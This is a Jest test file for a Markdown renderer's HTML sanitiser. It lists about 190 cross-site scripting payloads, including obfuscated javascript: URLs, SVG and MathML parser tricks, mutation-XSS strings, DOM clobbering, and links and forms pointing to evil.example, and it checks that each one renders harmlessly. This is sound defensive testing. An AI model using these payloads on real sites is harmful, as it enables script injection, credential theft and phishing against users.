/**
 * Texts that try to run scripts, to mislead users or to take over ids and names of the page. The rendered
 * HTML is checked with a browser's parser.
 *
 * @jest-environment <rootDir>/src/testing/jest/browserEnvironment.js
 */
import { renderMarkdown } from './renderMarkdown';
import { TEST_REFERENCE_TARGETS } from './testReferenceTargets';

const XSS_ATTACKS = [
  // Script elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\n>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<plaintext><script>alert(1)</script>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><svg onload=alert(1)>"></noframes>',
  '<iframe><textarea></iframe><img src=x onerror=alert(1)>',
  // Event handler attributes.
  '<img src=x onerror=alert(1)>',
  '<img src="https://a/b.png" onload="alert(1)">',
  '<img/src="https://a/b.png"/onerror=alert(1)>',
  '<img src=x:x onerror\n=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onmouseover=alert(1)>x</p>',
  '<a onclick=alert(1) href="#">x</a>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<input type=text onfocus=alert(1) autofocus>',
  '<input type="checkbox" onclick=alert(1)>',
  '<p \u0000onclick=alert(1)>x</p>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<img alt="`" src="`onerror=alert(1)//">',
  '<a title="</a><img src=x onerror=alert(1)>">x</a>',
  '<p title=">" onclick="alert(1)">x</p>',
  // SVG and MathML, inside of which HTML parsers follow other rules.
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><title><p title="</title><img src=x onerror=alert(1)>"></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  // URLs that run scripts.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u0000javascript:alert(1)">x</a>',
  '<a href="jav\u0000ascript:alert(1)">x</a>',
  '<a href="ｊavascript:alert(1)">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://winnow.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="http:javascript:alert(1)">x</a>',
  '<a href="https://a" href="javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://a/b.png" srcset="http://evil.example/x 1x, javascript:alert(1) 2x">',
  '<img src="http://evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="ht\ntps://a/b.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<q cite="javascript:alert(1)">x</q>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  // URLs that run scripts, in Markdown.
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java&#10;script:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](vbscript:msgbox)',
  '[x](https://a "onclick=alert(1) \\" onmouseover=alert(1)")',
  '[x](https://a/"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://a)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;utf8,<svg/onload=alert(1)>)',
  '![" onerror="alert(1)](https://a/b.png)',
  '![x](https://a/b.png "\\" onerror=\\"alert(1)")',
  '![[![x](javascript:alert(1))](javascript:alert(1))](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<JaVaScRiPt:alert(1)>',
  'javascript:alert(1) https://a"onmouseover=alert(1) www.evil.example',
  'https://a/<script>alert(1)</script>',
  '<mika@example.org"onclick=alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '[a]: <java\tscript:alert(1)>\n\n[a] ![a]',
  '[a]: https://a "x\' onclick=alert(1) \\""\n\n[a][a] [x][a]',
  '# <img src=x onerror=alert(1)>\n\n- [ ] <svg onload=alert(1)>\n- [x] [x](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '|a|\n|:-:|\n|[x](javascript:alert(1))<td style="x:expression(alert(1))" onclick=alert(1)>|',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\nx\n```',
  '~~~ <svg/onload=alert(1)>\nx\n~~~',
  '```constructor\nx\n```\n```__proto__\nx\n```',
  '```html\n</code></pre><img src=x onerror=alert(1)>\n```',
  '    </code></pre><script>alert(1)</script>',
  '@mika"><img src=x onerror=alert(1)> NET-1"onclick=alert(1) #1<svg onload=alert(1)>',
  '> <script>\n> alert(1)\n> </script>',
  '**<b onclick=alert(1)>x**</b>',
  // Links and images of other sites that look local.
  '[x](//evil.example) ![x](//evil.example/x.png)',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/\n/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '[x](/\\evil.example) [x](/%5cevil.example) [x](/&#9;/evil.example)',
  '<a href="https://winnow.example@evil.example">x</a>',
  '<a href="https://evil.example" rel="opener">x</a>',
  '<a href="https://evil.example" target="_blank">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/seen">x</a>',
  '<a href="https://evil.example" download>x</a>',
  '<a href="mailto:mika@example.org?body=x">x</a>',
  '[\u202egpj.exe](https://evil.example)',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example";</style><p>x',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<portal src="https://evil.example"></portal>',
  // Forms, ids, names and classes that the page itself uses.
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="https://evil.example"><input name=password type=password><input type=submit></form>',
  '<input type=image src="https://evil.example/x.png" formaction="javascript:alert(1)">',
  '<input type="CHECKBOX" form="sign-in" name="login" value="x">',
  '<button form="sign-in" formaction="https://evil.example">x</button>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<p id=root name=x class="admin evil">x</p>',
  '<img name=querySelector src="https://a/b.png"><a id=defaultView name=cookie>x</a>',
  '<form id=x><input name=cookie></form>',
  '<p is="evil-element" slot="x" part="y" contenteditable tabindex=1 accesskey=x hidden>x</p>',
  '<evil-element onclick=alert(1)>x</evil-element>',
  '<dialog open>x</dialog>',
  '<p popover id=x>x</p><span popovertarget=x>y</span>',
  '<p data-action="delete" aria-live="assertive" role="alert">x</p>',
  // Comments and tags that parsers end at different places.
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<!--<!--><img src=x onerror=alert(1)>-->-->',
  '<!-- <img title="--><img src=x onerror=alert(1)>"> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><?php ><img src=x onerror=alert(1)>?>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  '<img src="https://a/b.png" title="',
  '<a href="https://a',
  '<a href=https://a/<img/src=x/onerror=alert(1)>x</a>',
  '<b><i></b><img src=x onerror=alert(1)></i>',
  '<table><tr><td><table><img src=x onerror=alert(1)>',
  '<p><table><p onclick=alert(1)>x</table></p>',
  '</p></div></body></html><script>alert(1)</script>',
  '<%<img src=x onerror=alert(1)>%>',
  '＜script＞alert(1)＜/script＞ \u2028<img src=x onerror=alert(1)>\u2029',
  '\ufeff<script>alert(1)</script>',
  '<img\u000csrc=x\u000bonerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;',
];

const renderTestMarkdown = (text: string) => renderMarkdown(text, TEST_REFERENCE_TARGETS);

it('has a large corpus of attacks', () => {
  expect(new Set(XSS_ATTACKS).size).toBeGreaterThan(150);
});

it.each(XSS_ATTACKS)('makes %j harmless', (text) => {
  const html = renderTestMarkdown(text);
  const element = document.createElement('div');
  element.innerHTML = html;
  expect(findUnsafeHtmlElements(element)).toEqual([]);
  // Serializing and parsing again yields the same nodes (no mutation XSS).
  const again = document.createElement('div');
  again.innerHTML = element.innerHTML;
  expect(again.isEqualNode(element)).toBe(true);
  // Parsed without scripting, which changes the parsing of noscript.
  expect(findUnsafeHtmlElements(new DOMParser().parseFromString(html, 'text/html').body)).toEqual([]);
});

const NO_HTML_ATTRIBUTES: readonly string[] = [];
const ALLOWED_TABLE_CELL_ATTRIBUTES = ['align', 'colspan', 'rowspan'];

/** Allowed elements, each with its allowed attributes. */
const ALLOWED_ATTRIBUTES_BY_ELEMENT: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    (
      'h2 h3 h4 h5 h6 p div blockquote hr br pre summary ul li dl dt dd table thead tbody tfoot tr caption ' +
      'b i em strong del ins s strike u small mark cite q kbd samp var tt sub sup ruby rt rp wbr'
    )
      .split(' ')
      .map((name) => [name, NO_HTML_ATTRIBUTES]),
  ),
  a: ['href', 'title', 'rel'],
  abbr: ['title'],
  code: ['class'],
  details: ['open'],
  img: ['src', 'alt', 'title', 'width', 'height', 'loading', 'referrerpolicy'],
  input: ['type', 'checked', 'disabled', 'aria-label', 'data-task'],
  ol: ['start'],
  span: ['class'],
  td: ALLOWED_TABLE_CELL_ATTRIBUTES,
  th: ALLOWED_TABLE_CELL_ATTRIBUTES,
};

function findUnsafeHtmlElements(root: Element): string[] {
  return [...root.querySelectorAll('*')]
    .filter((element) => !isSafeHtmlElement(element))
    .map((element) => element.outerHTML);
}

function isSafeHtmlElement(element: Element): boolean {
  const allowed =
    element.namespaceURI === 'http://www.w3.org/1999/xhtml' &&
    ALLOWED_ATTRIBUTES_BY_ELEMENT[element.localName];
  if (!allowed || element.getAttributeNames().some((name) => !allowed.includes(name))) return false;
  const attribute = (name: string): string | null => element.getAttribute(name);
  switch (element.localName) {
    case 'a':
      return attribute('href') === null || isSafeHref(attribute('href')!, attribute('rel'));
    case 'img':
      return (
        new URL(attribute('src')!, TEST_ISSUE_PAGE_URL).protocol === 'https:' &&
        attribute('src')!.startsWith('https://') &&
        attribute('loading') === 'lazy' &&
        attribute('referrerpolicy') === 'no-referrer'
      );
    case 'input':
      return attribute('type') === 'checkbox' && attribute('disabled') !== null;
    case 'code':
    case 'span':
      return /^(|language-\S*|hljs-[\w-]+( [\w-]+)*)$/.test(attribute('class') ?? '');
    default:
      return true;
  }
}

/** The URL of the page that shows the text. */
const TEST_ISSUE_PAGE_URL = 'https://winnow.example/projects/NET/issues/1';

/** Resolves a link like a browser on that page and returns whether it is harmless. */
function isSafeHref(href: string, rel: string | null): boolean {
  // An invalid URL leads nowhere.
  if (!URL.canParse(href, TEST_ISSUE_PAGE_URL)) return true;
  const { origin, protocol } = new URL(href, TEST_ISSUE_PAGE_URL);
  if (/^[/#]/.test(href)) return origin === new URL(TEST_ISSUE_PAGE_URL).origin;
  return ['http:', 'https:', 'mailto:'].includes(protocol) && rel === 'noopener noreferrer nofollow';
}
